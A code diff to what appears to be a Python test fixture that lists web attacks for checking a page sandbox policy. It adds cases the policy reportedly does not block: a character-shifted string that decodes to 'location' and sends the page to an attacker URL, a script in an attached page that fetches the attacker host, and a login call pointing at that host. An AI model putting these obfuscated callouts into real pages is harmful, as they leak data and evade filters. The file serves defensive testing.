@@ -32,12 +32,14 @@ class Attack:
     """Answers of other hosts, by URL, that the attacker has put there or that a library is."""
     attached: tuple[str, ...] = ()
     """The files that came with the request, and stay as they are."""
+    opens: str = ""
+    """The file that a visitor opens, if it is not the start page or the only drawing."""
 
     @property
     def opened(self) -> str:
         """The file that a visitor opens: a drawing by itself, else the start page."""
         alone = (path for path in self.files if path.endswith((".svg", ".xml")))
-        return "index.html" if "index.html" in self.files else next(alone)
+        return self.opens or ("index.html" if "index.html" in self.files else next(alone))
 
 
 def _base64(text: str) -> str:
@@ -185,4 +187,17 @@ def attacks(evil: str, udp: str) -> dict[str, Attack]:
         ),
         # further ways out
         "a login that another provides": _site(code=f'navigator.credentials.get({{ identity: {{ providers: [{{ configURL: "{place}config.json", clientId: "secret" }}] }} }});'),
+    }  # fmt: skip
+
+
+def limits(evil: str) -> dict[str, Attack]:
+    """Attacks that neither the policy nor a gate holds, as SECURITY.md says."""
+    place = f"https://{evil}/"
+    return {
+        "a cipher": _site(
+            code=f'const word = [..."mpdbujpo"].map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join(""); window[word] = "{place}";'
+        ),
+        "an attached page by its address": Attack(
+            {"report.html": f'<script>fetch("{place}")</script>'}, attached=("report.html",), opens="report.html"
+        ),
     }  # fmt: skip
